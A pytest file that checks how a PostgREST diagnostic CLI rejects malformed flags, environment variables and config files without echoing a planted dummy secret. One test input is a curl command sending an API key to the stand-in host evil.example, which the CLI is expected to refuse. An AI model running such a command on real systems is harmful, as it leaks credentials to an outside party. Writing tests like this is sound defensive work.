"""Bad input through the real command line: exit 2, one clear line, no traceback, no secret.

Usage errors are found before any I/O, so none of these needs a database: the target points at
ports nobody listens on, and a test would hang or exit 3 if the CLI reached for them.
"""

from __future__ import annotations

import pytest
from fault_servers import dead_port

SECRET = "pw-Jx93Lq0Zs"  # planted in URLs and keys; must never be echoed back
DEAD = f"http://127.0.0.1:{dead_port()}"
DEAD_DB = f"postgresql://postgres:{SECRET}@127.0.0.1:{dead_port()}/postgres"


def _check(*flags: str) -> list[str]:
    """`check` with a full (unreachable) target, so only the flag under test is wrong."""
    base = {"--db-url": DEAD_DB, "--api-url": DEAD, "--timeout": "2"}
    given = dict(zip(flags[::2], flags[1::2], strict=True))
    argv = ["check"]
    for flag, value in {**base, **given}.items():
        argv += [flag, value]
    return argv


MALFORMED = [
    # (flag, value, words the one line must contain)
    ("--db-url", f"mysql://root:{SECRET}@db/x", ["--db-url", "postgresql://"]),
    ("--db-url", f"postgresql://u:{SECRET}@db:99999/x", ["port"]),
    ("--db-url", f"postgresql://u:{SECRET}@db:5x/x", ["port"]),
    ("--db-url", f"postgresql://u:{SECRET}@/x", ["no host"]),
    ("--db-url", f"postgresql://u:{SECRET}@[::1/x", ["malformed host"]),
    ("--db-url", f"u:{SECRET}@db/x", ["no scheme"]),
    ("--db-url", f"host=db password={SECRET}", ["postgresql://"]),
    ("--db-url", "postgresql://u@db/x\x07", ["control"]),
    ("--api-url", "ftp://example.com", ["--api-url", "http"]),
    ("--api-url", "http://[::1", ["malformed host"]),
    ("--api-url", "http://h:0", ["port"]),
    ("--api-url", "http://h/rest?apikey=" + SECRET, ["?query"]),
    ("--api-url", "http:// spaced.example", ["spaces"]),
    ("--admin-url", "localhost:3001", ["--admin-url"]),
    ("--api-key", f"{SECRET} extra", ["--api-key", "spaces"]),
    ("--api-key", f"eyJ{SECRET}\nsecond-line", ["--api-key"]),
    ("--service-key", "   ", ["--service-key", "empty"]),
    ("--timeout", "0", ["--timeout", "positive"]),
    ("--timeout", "nan", ["--timeout"]),
    ("--timeout", "-3", ["--timeout"]),
    ("--timeout", "soon", ["--timeout", "number"]),
    ("--channel", "x" * 64, ["--channel", "63"]),
    ("--anon-role", "x" * 64, ["--anon-role", "63"]),
    ("--postgrest-config", "/nonexistent/postgrest.conf", ["--postgrest-config", "cannot read"]),
    ("--table", "a.b.c", ["--table", "[SCHEMA.]NAME"]),
    ("--table", '"unterminated', ["--table", "quote"]),
    ("--table", "x" * 64, ["--table", "63-byte"]),
    ("--table", "ö" * 32, ["--table", "63-byte"]),
    ("--column", "just_a_table", ["--column"]),
    ("--function", "", ["--function"]),
    ("--relationship", "orders", ["--relationship"]),
    ("--enum-value", "mood", ["--enum-value"]),
    ("--symptom", "everything-is-on-fire", ["unknown symptom"]),
    ("--request", "curl -H 'unbalanced", ["--request", "quote"]),
    (
        "--request",
        f"curl http://evil.example/x -H 'apikey: {SECRET}'",
        ["--request", "not at the API"],
    ),
    ("--request", "FETCH", ["--request"]),
]


@pytest.mark.parametrize(
    "flag, value, words", MALFORMED, ids=[f"{f}={v[:24]!r}" for f, v, _ in MALFORMED]
)
def test_malformed_flag_is_one_usage_line(doctor, flag: str, value: str, words: list[str]):
    run = doctor(*_check(flag, value), budget=2)
    line = run.assert_one_line_error(2, *words)
    assert SECRET not in run.output, line


OVERLONG = [
    ("--table", "public." + "t" * 100_000),
    ("--column", "public.t." + "c" * 100_000),
    ("--db-url", f"postgresql://u:{SECRET}@" + "h" * 100_000 + ":5x/db"),
    ("--api-url", "http://" + "h" * 100_000 + ":99999"),
    ("--api-key", "k" * 50_000 + " " + "k"),
    ("--request", "GET /" + "p" * 100_000 + " \x01"),
    ("--symptom", "s" * 100_000),
]


@pytest.mark.parametrize("flag, value", OVERLONG, ids=[f for f, _ in OVERLONG])
def test_overlong_value_is_one_short_usage_line(doctor, flag: str, value: str):
    run = doctor(*_check(flag, value), budget=2)
    line = run.assert_one_line_error(2, flag.lstrip("-").split("-")[0])
    assert len(line) < 400, f"{len(line)} characters"
    assert SECRET not in run.output


@pytest.mark.parametrize(
    "variable, value, words",
    [
        ("DATABASE_URL", f"mysql://root:{SECRET}@db/x", ["env:DATABASE_URL"]),
        ("SUPABASE_DB_URL", f"postgresql://u:{SECRET}@db:70000/x", ["env:SUPABASE_DB_URL"]),
        ("PGRST_DOCTOR_API_URL", "not a url", ["env:PGRST_DOCTOR_API_URL"]),
        ("ANON_KEY", f"two {SECRET}", ["env:ANON_KEY"]),
    ],
)
def test_malformed_environment_names_its_source(doctor, variable, value, words):
    run = doctor("check", "--timeout", "2", env={variable: value}, budget=2)
    run.assert_one_line_error(2, *words)
    assert SECRET not in run.output


def test_malformed_project_config_is_one_usage_line(doctor, tmp_path):
    project = tmp_path / "proj"
    (project / "supabase").mkdir(parents=True)
    (project / "supabase" / "config.toml").write_text("[api]\nport = 'fifty'\n[db\n")
    run = doctor("check", "--project-dir", str(project), "--timeout", "2", budget=2)
    run.assert_one_line_error(2, "config.toml")


def test_malformed_postgrest_config_is_one_usage_line(doctor, tmp_path):
    """The file holds db-uri and jwt-secret: the line names the file, never its contents."""
    conf = tmp_path / "postgrest.conf"
    conf.write_text(f'db-uri = "postgres://authenticator:{SECRET}@db/app"\njwt-secret = {SECRET}\n')
    run = doctor("check", *_check("--postgrest-config", str(conf))[1:], budget=2)
    line = run.assert_one_line_error(2, "--postgrest-config", "not a PostgREST config file")
    assert SECRET not in run.output, line


def test_missing_project_dir_is_one_usage_line(doctor, tmp_path):
    run = doctor("check", "--project-dir", str(tmp_path / "nope"), budget=2)
    run.assert_one_line_error(2, "--project-dir")


def test_unknown_flag_and_subcommand_are_one_usage_line(doctor):
    doctor("check", "--tabel", "x", budget=2).assert_one_line_error(2, "--tabel")
    doctor("chekc", budget=2).assert_one_line_error(2, "chekc")


@pytest.mark.parametrize(
    "argv, words",
    [
        (["reload", "--restart-cmd", f"docker exec 'api PGPASSWORD={SECRET}"], ["--restart-cmd"]),
        (["reload", "--restart-cmd", "   "], ["--restart-cmd", "empty"]),
        (["reload", "--postgrest-pid", "-5"], ["--postgrest-pid"]),
        (["reload", "--postgrest-pid", "abc"], ["--postgrest-pid"]),
        (["reload", "--method", "nuke"], ["--method"]),
        (["reset", "--reset-cmd", f"psql 'postgresql://u:{SECRET}@h/db"], ["--reset-cmd"]),
        (["reset", "--confirm-host", "db.example.com"], ["--confirm-host", "--allow-remote"]),
        (["restore", "/nonexistent/dump.pgdump", "--confirm", "x"], ["no dump file"]),
    ],
    ids=lambda v: " ".join(v)[:40],
)
def test_malformed_remedy_flags_are_one_usage_line(doctor, argv: list[str], words: list[str]):
    base = ["--db-url", DEAD_DB, "--api-url", DEAD, "--timeout", "2"]
    run = doctor(*argv, *base, budget=2)
    run.assert_one_line_error(2, *words)
    assert SECRET not in run.output


@pytest.mark.parametrize(
    "argv, words",
    [
        (["sandbox", "--drift", "everything"], ["--drift"]),
        (["sandbox", "--postgrest-version", "99"], ["--postgrest-version"]),
        (["export", "--format", "pdf"], ["--format"]),
        (["export", "no-such-session"], ["no-such-session"]),
    ],
    ids=lambda v: " ".join(v)[:40],
)
def test_malformed_other_commands_are_one_usage_line(doctor, argv: list[str], words: list[str]):
    doctor(*argv, budget=2).assert_one_line_error(2, *words)


def test_a_terminal_without_utf8_gets_words_not_a_traceback(doctor):
    """PYTHONIOENCODING=ascii (like an ISO-8859-1 locale) cannot encode ✓ / ✗."""
    run = doctor(*_check(), env={"PYTHONIOENCODING": "ascii"}, budget=2)
    run.assert_calm(3)
    assert "Verdict: ? unreachable" in run.stdout
    usage = doctor(*_check("--table", "a.b.c"), env={"PYTHONIOENCODING": "ascii"}, budget=2)
    usage.assert_one_line_error(2, "--table")


@pytest.mark.parametrize(
    "argv, code, words",
    [
        ([*_check("--table", "a.b.c"), "--json"], 2, ["--table"]),
        (["check", "--json", "--tabel", "x"], 2, ["--tabel"]),
        (["reload", "--json", "--postgrest-pid", "abc"], 2, ["--postgrest-pid"]),
        (["reload", "--json", "--db-url", DEAD_DB, "--api-url", DEAD, "--timeout", "2"], 3,
         ["unreachable"]),
        (["reset", "--json", "--confirm-host", "db.example.com"], 2, ["--allow-remote"]),
    ],
    ids=lambda v: " ".join(v)[:40] if isinstance(v, list) else None,
)  # fmt: skip
def test_json_failures_still_print_exactly_one_json_object(doctor, argv, code, words):
    """A script that asked for --json parses stdout whatever happened: one object holding the
    error and the exit code; the one clear line stays on stderr."""
    run = doctor(*argv, budget=2)
    line = run.assert_one_line_error(code, *words)
    assert run.json() == {"schema_version": 1, "error": line.removeprefix("pgrst-doctor: "),
                          "exit_code": code}  # fmt: skip
    assert len(run.stdout.splitlines()) == 1 and SECRET not in run.output


def test_without_json_a_failure_prints_nothing_on_stdout(doctor):
    run = doctor(*_check("--table", "a.b.c"), budget=2)
    run.assert_one_line_error(2, "--table")
    assert run.stdout == ""
